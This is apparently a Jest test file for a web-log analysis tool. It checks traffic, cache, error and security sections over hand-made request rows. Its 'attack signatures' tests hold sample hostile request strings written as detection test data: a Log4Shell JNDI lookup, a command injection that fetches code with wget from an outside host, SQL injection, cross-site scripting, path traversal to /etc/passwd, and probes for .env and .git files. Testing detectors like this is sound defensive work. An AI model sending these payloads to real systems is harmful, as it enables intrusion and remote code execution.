import type { DuckDBConnection } from '@duckdb/node-api';
import { beforeAll, describe, expect, test } from '@jest/globals';
import { applies } from '../../lib/sections/applies.ts';
import { loadSections } from '../../lib/sections/catalogue.ts';
import { answer, columnTypes, openRequests, type RequestRow } from './database.ts';
import { A_WEB_DAY, CHROME } from './web-day-rows.ts';

/** The sections that storage has not: its own are answered elsewhere. */
const sections = loadSections().filter((section) => !applies(section, 'storage'));

/** What each section must answer over the hand-made day, worked out by hand. */
const ANSWERS: Record<string, unknown[][]> = {
  'daily-summary': [
    ['2026-03-05', 10, 6, 1, 2, 1, 0, 30, 2102300, 789.2],
    ['2026-03-06', 5, 0, 0, 5, 0, 0, 100, 250, 30],
  ],
  visitors: [
    ['2026-03-05', 4, 4, 10, 2.5, 2102300],
    ['2026-03-06', 1, 1, 5, 5, 250],
  ],
  hours: [
    ['2026-03-05 08:00', 6, null, 96700, 0, 1, 100 / 6],
    ['2026-03-05 09:00', 4, -100 / 3, 2005600, 2, 0, 50],
    ['2026-03-05 10:00', 0, -100, 0, 0, 0, null],
    ...hoursOf('2026-03-05', 11, 23).map((hour) => [hour, 0, null, 0, 0, 0, null]),
    ...hoursOf('2026-03-06', 0, 9).map((hour) => [hour, 0, null, 0, 0, 0, null]),
    ['2026-03-06 10:00', 5, null, 250, 5, 0, 100],
  ],
  'peak-minutes': [
    ['2026-03-06 10:00', 5, 1, 250, 5, 30],
    ['2026-03-05 08:00', 3, 1, 95700, 0, 520],
    ['2026-03-05 09:10', 2, 2, 5300, 1, 9],
    ['2026-03-05 08:01', 1, 1, 900, 0, 300],
    ['2026-03-05 08:20', 1, 1, 100, 1, 2000],
    ['2026-03-05 08:30', 1, 1, 0, 0, 5],
    ['2026-03-05 09:11', 1, 1, 300, 1, 9],
    ['2026-03-05 09:12', 1, 1, 2000000, 0, 4000],
  ],
  minutes: [
    ['2026-03-05 08:00', 3, 95700, 0, 0, 520],
    ['2026-03-05 08:01', 1, 900, 0, 0, 300],
    ['2026-03-05 08:20', 1, 100, 0, 1, 2000],
    ['2026-03-05 08:30', 1, 0, 0, 0, 5],
    ['2026-03-05 09:10', 2, 5300, 1, 0, 9],
    ['2026-03-05 09:11', 1, 300, 1, 0, 9],
    ['2026-03-05 09:12', 1, 2000000, 0, 0, 4000],
  ],
  methods: [
    ['GET', 9, 4, 2102200, 2, 200 / 9, '2026-03-05 09:12'],
    ['POST', 6, 2, 350, 6, 100, '2026-03-06 10:00'],
  ],
  protocols: [['HTTP/2', 15, 4, 2102550, 8]],
  hosts: [['shop.example.com', 15, 4, 2102550, 7, 1, 800 / 15]],
  'edge-locations': [
    ['AMS', 11, 4, 100850, 4, 1, 80, 0, 22],
    ['FRA', 4, 3, 2001700, 0, 3, 0, 1, 1950],
  ],
  'response-sizes': [
    ['all', 15, 2102550, 140170, 300, 2000000, 2000000, 2000000],
    ['2xx', 6, 2101600, 2_101_600 / 6, 5000, 2000000, 2000000, 2000000],
    ['3xx', 1, 0, 0, 0, 0, 0, 0],
    ['4xx', 7, 850, 850 / 7, 50, 300, 300, 300],
    ['5xx', 1, 100, 100, 100, 100, 100, 100],
  ],
  'largest-endpoints': [
    ['shop.example.com/api', 4, 2001700, 500425, 2000000, 2000000],
    ['shop.example.com/app.js', 1, 90000, 90000, 90000, 90000],
    ['shop.example.com/', 2, 10000, 5000, 5000, 5000],
    ['shop.example.com/gone.png', 2, 600, 300, 300, 300],
    ['shop.example.com/login', 5, 250, 50, 50, 50],
    ['shop.example.com/old', 1, 0, 0, 0, 0],
  ],
  'top-endpoints': [
    ['shop.example.com/login', 5, 1, 250, null, 5, 100, '2026-03-06 10:00'],
    ['shop.example.com/api', 4, 3, 2001700, null, 1, 25, '2026-03-05 09:12'],
    ['shop.example.com/', 2, 2, 10000, null, 0, 0, '2026-03-05 09:10'],
    ['shop.example.com/gone.png', 2, 2, 600, null, 2, 100, '2026-03-05 09:11'],
    ['shop.example.com/app.js', 1, 1, 90000, null, 0, 0, '2026-03-05 08:00'],
    ['shop.example.com/old', 1, 1, 0, null, 0, 0, '2026-03-05 08:30'],
  ],
  'static-files': [
    ['shop.example.com/gone.png', 2, 2, 600, 2, '2026-03-05 09:11'],
    ['shop.example.com/app.js', 1, 1, 90000, 0, '2026-03-05 08:00'],
  ],
  'file-types': [
    ['none', 4, 12, 2011950, 167662.5, 6],
    ['png', 1, 2, 600, 300, 2],
    ['js', 1, 1, 90000, 90000, 0],
  ],
  referrers: [
    ['https://www.example.com/', 2, 2, 0, '2026-03-05 09:10'],
    ['https://shop.example.com/', 1, 1, 0, '2026-03-05 08:00'],
    ['no address', 1, 1, 1, '2026-03-05 09:11'],
  ],
  'referring-sites': [
    ['www.example.com', 1, 2],
    ['shop.example.com', 1, 1],
    [null, 1, 1],
  ],
  'remote-users': [['ada', 1, 1, 2000000, 0, 0, '2026-03-05 09:12']],
  browsers: [
    ['Chrome', 3, 1, 95700, 0, '2026-03-05 08:00'],
    ['Safari', 3, 1, 6000, 1, '2026-03-05 09:10'],
  ],
  'operating-systems': [
    ['Windows', 3, 1, 95700, 0, '2026-03-05 08:00'],
    ['iOS', 3, 1, 6000, 1, '2026-03-05 09:10'],
  ],
  'agent-kinds': [
    ['bot', 9, 3, 2000850, 7, '2026-03-06 10:00'],
    ['desktop', 3, 1, 95700, 0, '2026-03-05 08:00'],
    ['mobile', 3, 1, 6000, 1, '2026-03-05 09:10'],
  ],
  bots: [
    ['curl', 7, 2, 2000550, 6, '2026-03-06 10:00'],
    ['Googlebot', 2, 1, 300, 1, '2026-03-05 09:10'],
  ],
  'status-codes': [
    [200, 6, 40, 3, 2101600, '2026-03-05 09:12'],
    [401, 5, 100 / 3, 1, 250, '2026-03-06 10:00'],
    [404, 2, 200 / 15, 2, 600, '2026-03-05 09:11'],
    [301, 1, 100 / 15, 1, 0, '2026-03-05 08:30'],
    [500, 1, 100 / 15, 1, 100, '2026-03-05 08:20'],
  ],
  'errors-by-hour': [
    [8, 6, 0, 1, 100 / 6],
    [9, 4, 2, 0, 50],
    [10, 5, 5, 0, 100],
  ],
  'error-endpoints': [
    ['shop.example.com/api', 4, 0, 1, 25, 1, '2026-03-05 08:20'],
    ['shop.example.com/login', 5, 5, 0, 100, 1, '2026-03-06 10:00'],
    ['shop.example.com/gone.png', 2, 2, 0, 100, 2, '2026-03-05 09:11'],
  ],
  'missing-endpoints': [['shop.example.com/gone.png', 2, 2, 'no address', '2026-03-05 09:11']],
  'failed-requests': [
    ['2026-03-05 08:20', 500, 'POST', 'shop.example.com/api', 'org=7', '192.0.2.20', 2000, 'PASS', null],
  ],
  'response-times': [
    ['all', 15, 8042 / 15, 30, 4000, 4000, 4000],
    ['2xx', 6, 5870 / 6, 40, 4000, 4000, 4000],
    ['3xx', 1, 5, 5, 5, 5, 5],
    ['4xx', 7, 167 / 7, 30, 30, 30, 30],
    ['5xx', 1, 2000, 2000, 2000, 2000, 2000],
  ],
  'endpoint-times': [
    ['shop.example.com/api', 4, 1950, 1500, 4000, 4000, 4000, 7800],
    ['shop.example.com/login', 5, 30, 30, 30, 30, 30, 150],
    ['shop.example.com/app.js', 1, 40, 40, 40, 40, 40, 40],
    ['shop.example.com/', 2, 15, 10, 20, 20, 20, 30],
    ['shop.example.com/gone.png', 2, 8.5, 8, 9, 9, 9, 17],
    ['shop.example.com/old', 1, 5, 5, 5, 5, 5, 5],
  ],
  'slow-endpoints': [['shop.example.com/api', 4, 3, 75, 4000, 4000, 2, 2_000_800 / 3, 1]],
  'slow-requests': [
    [
      '2026-03-05 09:12',
      4000,
      null,
      200,
      'GET',
      'shop.example.com/api',
      'org=42&debug',
      2000000,
      'MISS',
      '203.0.113.5',
    ],
    ['2026-03-05 08:20', 2000, null, 500, 'POST', 'shop.example.com/api', 'org=7', 100, 'PASS', '192.0.2.20'],
    ['2026-03-05 08:00', 1500, null, 200, 'GET', 'shop.example.com/api', 'org=42&page=1', 700, 'MISS', '192.0.2.10'],
  ],
  'slow-hours': [
    ['2026-03-05 08:00', 6, 2, 2000, null, null, 100 / 3, 96_700 / 6, 1],
    ['2026-03-05 09:00', 4, 1, 4000, 100, -100 / 3, 50, 501400, 0],
  ],
  'times-by-size': [
    ['below 10 kB', 'hit', 3, 0, 35 / 3, 10, 20],
    ['below 10 kB', 'miss', 3, 1, 1808 / 3, 300, 1500],
    ['below 10 kB', 'other', 1, 0, 9, 9, 9],
    ['below 10 kB', 'pass', 6, 1, 2150 / 6, 30, 2000],
    ['10 to 100 kB', 'hit', 1, 0, 40, 40, 40],
    ['1 MB and more', 'miss', 1, 1, 4000, 4000, 4000],
  ],
  'cache-rate': [[15, 4, 4, 6, 50, 2102550, 100000, (1e2 * 100_000) / 2_102_550]],
  cache: [
    ['PASS', 'pass', 6, 40, 350, 2150 / 6],
    ['MISS', 'miss', 4, 400 / 15, 2001900, 1452],
    ['HIT', 'hit', 3, 20, 95000, 65 / 3],
    ['Error', 'other', 1, 100 / 15, 300, 9],
    ['STALE', 'hit', 1, 100 / 15, 5000, 10],
  ],
  'cache-by-hour': [
    ['2026-03-05 08:00', 6, 3, 2, 1, 60, 96700],
    ['2026-03-05 09:00', 4, 1, 2, 0, 100 / 3, 2005600],
    ['2026-03-06 10:00', 5, 0, 0, 5, null, 250],
  ],
  'cache-by-endpoint': [
    ['shop.example.com/api', 4, 0, 3, 1, 0, 2001700],
    ['shop.example.com/gone.png', 2, 0, 1, 0, 0, 600],
    ['shop.example.com/login', 5, 0, 0, 5, null, 250],
    ['shop.example.com/', 2, 2, 0, 0, 100, 0],
    ['shop.example.com/app.js', 1, 1, 0, 0, 100, 0],
    ['shop.example.com/old', 1, 1, 0, 0, 100, 0],
  ],
  parameters: [
    ['org', 4, 1, 2, 0],
    ['page', 2, 1, 2, 0],
    ['debug', 1, 1, 0, 1],
  ],
  'parameter-values': [
    ['org', '42', 3, 0],
    ['debug', null, 1, 0],
    ['org', '7', 1, 1],
    ['page', '1', 1, 0],
    ['page', '2', 1, 0],
  ],
  'query-signatures': [
    ['shop.example.com/api', 'org&page', 2, 2, 0, 900],
    ['shop.example.com/api', 'debug&org', 1, 1, 0, 4000],
    ['shop.example.com/api', 'org', 1, 1, 1, 2000],
  ],
  'brute-force': [
    [
      '203.0.113.5',
      '2026-03-06 10:00',
      5,
      5,
      1,
      'shop.example.com/login',
      'curl/8.7.1',
      '2026-03-06 10:00',
      '2026-03-06 10:00',
    ],
  ],
  tls: [['TLSv1.3', 'TLS_AES_128_GCM_SHA256', 15, 4, CHROME, '2026-03-06 10:00']],
  'endpoint-changes': [
    ['new', 'shop.example.com/login', 5, 0, 5],
    ['new', 'shop.example.com/api', 4, 0, 4],
    ['new', 'shop.example.com/', 2, 0, 2],
    ['new', 'shop.example.com/gone.png', 2, 0, 2],
    ['new', 'shop.example.com/app.js', 1, 0, 1],
    ['gone', 'shop.example.com/before', 0, 1, -1],
  ],
};

/** Those that the day does not answer, and that have a test of their own below. */
const ELSEWHERE = [
  ...['unusual-hours', 'scanners', 'attack-signatures', 'targets', 'target-answers'],
  ...['levels', 'applications', 'messages'],
];

describe('the sections of CDNs, load balancers and web servers over a day worked out by hand', () => {
  let connection: DuckDBConnection;
  beforeAll(async () => {
    connection = await openRequests(A_WEB_DAY);
  });

  test('none is without an expected answer', () => {
    expect(sections.map(({ id }) => id).sort()).toEqual([...Object.keys(ANSWERS), ...ELSEWHERE].sort());
  });

  test.each(sections.filter(({ id }) => id in ANSWERS))('$id', async (section) => {
    expect((await answer(connection, section)).map(rounded)).toEqual(ANSWERS[section.id]?.map(rounded));
  });

  test.each(sections)('$id returns the columns it declares', async (section) => {
    const declared = section.columns.map(({ name, type }) => `${name} ${type}`);
    expect(await columnTypes(connection, section)).toEqual(declared);
  });
});

describe('unusual hours', () => {
  /** A day of 10 or 12 requests an hour that take 100 or 102 ms, but for noon. */
  const usual = Array.from({ length: 24 }, (_, hour) =>
    Array.from({ length: hour === 12 ? 100 : 10 + 2 * (hour % 2) }, () => ({
      source: 'site',
      day: '2026-03-05',
      time: `2026-03-05 ${String(hour).padStart(2, '0')}:30:00`,
      duration_ms: 100 + 2 * (hour % 2),
    })),
  ).flat();

  test('are those far from the median, in deviations of either kind', async () => {
    // Median 10 and median deviation 0 or 2: of 24 hours, 12 have 10 requests or more deviate by 2.
    const [row, ...others] = await answer(await openRequests(usual), sectionOf('unusual-hours'));
    expect(others).toEqual([]);
    const [hour, measure, figure, median, z_score, robust_score] = row ?? [];
    expect([hour, measure, figure, median]).toEqual(['2026-03-05 12:00', 'requests', 100, 12]);
    // Mean (11 * 10 + 12 * 12 + 100) / 24 = 14.75; mean square 352.8; deviation sqrt(352.83 - 14.75^2) = 17.79.
    expect(z_score).toBeCloseTo(85.25 / Math.sqrt((11 * 4.75 ** 2 + 12 * 2.75 ** 2 + 85.25 ** 2) / 24), 6);
    // 12 hours lie at the median itself, so that the median deviation is 0 and there is no robust score.
    expect(robust_score).toBeNull();
  });

  test('are not looked for in less than half a day', async () => {
    const short = usual.filter(({ time }) => time >= '2026-03-05 12:00' && time < '2026-03-05 23:00');
    expect(await answer(await openRequests(short), sectionOf('unusual-hours'))).toEqual([]);
  });

  test('a few wild hours do not hide each other', async () => {
    const slow = Array.from({ length: 24 }, (_, hour) => ({
      source: 'site',
      day: '2026-03-05',
      time: `2026-03-05 ${String(hour).padStart(2, '0')}:30:00`,
      duration_ms: hour >= 20 ? 5000 : 100 + hour,
    }));
    const rows = await answer(await openRequests(slow), sectionOf('unusual-hours'));
    expect(rows.map(([hour, , figure]) => [hour, figure])).toEqual(
      [20, 21, 22, 23].map((hour) => [`2026-03-05 ${hour}:00`, 5000]),
    );
    // Median 111, median deviation 6: the z scores are below 3, the robust ones are not.
    const [[, measure, , median, z_score, robust_score] = []] = rows;
    expect([measure, median, Number(z_score) < 3]).toEqual(['mean response time, ms', 111, true]);
    expect(robust_score).toBeCloseTo((0.6745 * (5000 - 111)) / 6, 6);
  });
});

describe('scanners', () => {
  test('are clients that ask for much that is not there, and for little else', async () => {
    const asked = (client_ip: string, status: number, path: string): RequestRow => ({
      source: 'site',
      day: '2026-03-05',
      time: '2026-03-05 08:00:00',
      client_ip,
      status,
      path,
      user_agent: 'probe/1.0',
    });
    const many = (client_ip: string, status: number, count: number) =>
      Array.from({ length: count }, (_, number) => asked(client_ip, status, `/${status}/${number}`));
    const connection = await openRequests([
      ...many('203.0.113.1', 404, 10),
      ...many('203.0.113.1', 200, 10),
      // One endpoint too few, and too much that is there.
      ...many('203.0.113.2', 404, 9),
      ...many('203.0.113.3', 404, 10),
      ...many('203.0.113.3', 200, 11),
    ]);
    expect(await answer(connection, sectionOf('scanners'))).toEqual([
      ['203.0.113.1', 20, 10, 10, 'probe/1.0', '2026-03-05 08:00', '2026-03-05 08:00'],
    ]);
  });
});

describe('attack signatures', () => {
  const asked = (path: string, query: string | null = null, user_agent = 'Mozilla/5.0'): RequestRow => ({
    source: 'site',
    day: '2026-03-05',
    time: '2026-03-05 08:00:00',
    client_ip: '203.0.113.1',
    status: 404,
    path,
    query,
    user_agent,
  });
  const attack = async (row: RequestRow) =>
    (await answer(await openRequests([row]), sectionOf('attack-signatures'))).map(([kind]) => kind);

  test.each([
    ['code execution', asked('/', null, '$'.concat('{jndi:ldap://203.0.113.9/a}'))],
    ['code execution', asked('/', 'x=%24%7B%24%7Blower%3Aj%7Dndi')],
    ['code execution', asked('/cgi', 'cmd=;wget+http://203.0.113.9/x')],
    ['code execution', asked('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php')],
    ['SQL injection', asked('/item', 'id=1%27%20OR%20%271%27=%271')],
    ['SQL injection', asked('/item', 'id=1+UNION+ALL+SELECT+1,2')],
    ['SQL injection', asked('/item', 'id=1;DROP%20TABLE%20users')],
    ['cross-site scripting', asked('/search', 'q=%3Cscript%3Ealert(1)')],
    ['cross-site scripting', asked('/<img src=x onerror=alert(1)>')],
    ['file inclusion', asked('/../../etc/hosts')],
    ['file inclusion', asked('/', 'page=..%2F..%2Fetc%2Fpasswd')],
    ['hidden files', asked('/.env')],
    ['hidden files', asked('/app/.git/config')],
    ['hidden files', asked('/backup.sql')],
  ])('%s', async (kind, row) => {
    expect(await attack(row)).toEqual([kind]);
  });

  test.each([
    asked('/union-square/select-hotels', 'city=St.+Louis&from=a&or=1'),
    asked('/environment', 'file=report.pdf&script=latin'),
    asked('/a..b/c', 'q=rock+and+roll', 'curl/8.7.1'),
    asked('/list', 'page=2&cat=5&sh=1', 'Mozilla/5.0 (Linux; Android 10; SH-M12) AppleWebKit/537.36'),
    { ...asked('/'), referrer: 'file:///C:/Users/ada/start.html' },
    asked('/articles/sql-injection-explained', 'price=5%25'),
    asked('/api/items', 'filter[name]=cat;dog&sort=name'),
  ])('nothing in $path?$query', async (row) => {
    expect(await attack(row)).toEqual([]);
  });

  test('by client, with what succeeded', async () => {
    const rows = [
      asked('/.env'),
      { ...asked('/.git/HEAD'), status: 200 },
      { ...asked('/.env'), client_ip: '203.0.113.2' },
    ];
    expect(await answer(await openRequests(rows), sectionOf('attack-signatures'))).toEqual([
      ['hidden files', '203.0.113.1', 2, 1, 2, '/.env', 'Mozilla/5.0', '2026-03-05 08:00', '2026-03-05 08:00'],
      ['hidden files', '203.0.113.2', 1, 0, 1, '/.env', 'Mozilla/5.0', '2026-03-05 08:00', '2026-03-05 08:00'],
    ]);
  });
});

describe('behind load balancers', () => {
  const balanced = (status: number, target: string, target_status: string, server_ms: number | null): RequestRow => ({
    source: 'site',
    day: '2026-03-05',
    time: '2026-03-05 08:00:00',
    client_ip: '192.0.2.10',
    application: 'app/shop/1',
    status,
    bytes_sent: 100,
    duration_ms: 10,
    server_ms,
    error_code: status === 502 ? 'LambdaInvalidResponse' : null,
    extra: JSON.stringify({ target, target_status, target_group: 'shop' }),
  });
  let connection: DuckDBConnection;
  beforeAll(async () => {
    connection = await openRequests([
      balanced(200, '10.0.0.1:80', '200', 4),
      balanced(200, '10.0.0.1:80', '200', 6),
      balanced(500, '10.0.0.1:80', '500', 8),
      balanced(200, '10.0.0.2:80', '201', 2),
      balanced(502, '10.0.0.2:80', '-', null),
      balanced(503, '-', '-', null),
    ]);
  });

  test('targets', async () => {
    expect(await answer(connection, sectionOf('targets'))).toEqual([
      ['app/shop/1', 'shop', '10.0.0.1:80', 3, 300, 1, 0, 6, 8],
      ['app/shop/1', 'shop', '10.0.0.2:80', 2, 200, 0, 1, 2, 2],
      ['app/shop/1', 'shop', null, 1, 100, 0, 1, null, null],
    ]);
  });
  test('target-answers, where they differ', async () => {
    expect(await answer(connection, sectionOf('target-answers'))).toEqual([
      [200, '201', null, 1, 1, 10, '2026-03-05 08:00'],
      [502, null, 'LambdaInvalidResponse', 1, 1, 10, '2026-03-05 08:00'],
      [503, null, null, 1, 1, 10, '2026-03-05 08:00'],
    ]);
  });
});

describe('logs of other programs', () => {
  const line = (minute: number, level: string, application: string, message: string): RequestRow => ({
    source: 'site',
    day: '2026-03-05',
    time: `2026-03-05 08:0${minute}:00`,
    host: 'web-1',
    level,
    application,
    message,
  });
  let connection: DuckDBConnection;
  beforeAll(async () => {
    connection = await openRequests([
      line(1, 'info', 'sshd', 'port 51022 closed'),
      line(2, 'info', 'sshd', 'port 51023 closed'),
      line(3, 'err', 'cron', 'no such job'),
    ]);
  });

  test('levels', async () => {
    expect(await answer(connection, sectionOf('levels'))).toEqual([
      ['info', 2, 1, '2026-03-05 08:01', '2026-03-05 08:02'],
      ['err', 1, 1, '2026-03-05 08:03', '2026-03-05 08:03'],
    ]);
  });
  test('applications', async () => {
    expect(await answer(connection, sectionOf('applications'))).toEqual([
      ['web-1', 'sshd', 2, '2026-03-05 08:01', '2026-03-05 08:02'],
      ['web-1', 'cron', 1, '2026-03-05 08:03', '2026-03-05 08:03'],
    ]);
  });
  test('messages, whatever their numbers', async () => {
    expect(await answer(connection, sectionOf('messages'))).toEqual([
      ['sshd', 'port # closed', 2, '2026-03-05 08:01', '2026-03-05 08:02'],
      ['cron', 'no such job', 1, '2026-03-05 08:03', '2026-03-05 08:03'],
    ]);
  });
});

function sectionOf(id: string) {
  const found = sections.find((section) => section.id === id);
  if (!found) throw new Error(`there is no section ${id}`);
  return found;
}

/** The hours of a day from one to another, both included: `2026-03-05 11:00`. */
function hoursOf(day: string, first: number, last: number): string[] {
  return Array.from({ length: last - first + 1 }, (_, index) => `${day} ${String(first + index).padStart(2, '0')}:00`);
}

/** Fractions to 12 digits, since sums written here and in SQL may differ in the last bit. */
function rounded(row: readonly unknown[]): unknown[] {
  return row.map((value) => (typeof value === 'number' ? Number(value.toPrecision(12)) : value));
}
